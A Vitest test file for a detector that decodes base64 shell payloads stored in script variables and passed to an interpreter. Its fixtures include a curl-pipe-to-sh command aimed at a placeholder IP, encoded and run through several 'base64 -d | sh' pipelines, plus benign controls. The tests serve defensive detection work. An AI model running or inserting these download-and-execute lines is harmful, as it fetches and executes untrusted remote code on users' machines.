import { describe, expect, it } from 'vitest';
import { encodedCommandPayload } from './encoded-command.js';

// `curl -s http://203.0.113.9/x | sh`, base64.
const PAYLOAD = Buffer.from('curl -s http://203.0.113.9/x | sh').toString('base64');

describe('an encoded literal kept in a variable of the script (round s30: each name looked up once per script)', () => {
  it('is read where the line hands it to an interpreter, in each assignment form', () => {
    for (const assignment of [`P=${PAYLOAD}`, `P="${PAYLOAD}"`, `export P='${PAYLOAD}'`, `  local P=${PAYLOAD};`, `$P = '${PAYLOAD}'`, `\${P}=${PAYLOAD}`]) {
      const script = `#!/bin/sh\n${assignment}\necho "$P" | base64 -d | sh\n`;
      expect(encodedCommandPayload('echo "$P" | base64 -d | sh', script), assignment).toContain('curl -s http://203.0.113.9/x');
    }
  });

  it('is not read when the script assigns the name twice, or not at all', () => {
    const twice = `P=${PAYLOAD}\nP=${PAYLOAD}\necho "$P" | base64 -d | sh\n`;
    expect(encodedCommandPayload('echo "$P" | base64 -d | sh', twice)).toBeNull();
    expect(encodedCommandPayload('echo "$Q" | base64 -d | sh', `P=${PAYLOAD}\n`)).toBeNull();
  });

  it('follows the script each line comes from: one script’s names are not another’s', () => {
    const line = 'echo "$P" | base64 -d | sh';
    const harmless = Buffer.from('echo hello world, nothing here').toString('base64');
    expect(encodedCommandPayload(line, `P=${PAYLOAD}\n${line}\n`)).not.toBeNull();
    expect(encodedCommandPayload(line, `P=${harmless}\n${line}\n`)).toBeNull();
    expect(encodedCommandPayload(line, `P=${PAYLOAD}\n${line}\n`)).not.toBeNull();
  });

  it('leaves a benign script with template literals and assignments alone', () => {
    const script = ['const name = "abcdefghijklmnopqrstuvwxyz0123";', 'exec(`ls ${name}`);', 'const other = `${name}-${name}`;'].join('\n');
    for (const line of script.split('\n')) expect(encodedCommandPayload(line, script)).toBeNull();
  });

  it('still reads a literal whose assignment spans lines as the whole-script pattern does', () => {
    const script = `\n\n   P\n=\n${PAYLOAD}\n\necho $P | base64 -d | bash\n`;
    expect(encodedCommandPayload('echo $P | base64 -d | bash', script)).toContain('203.0.113.9');
  });
});
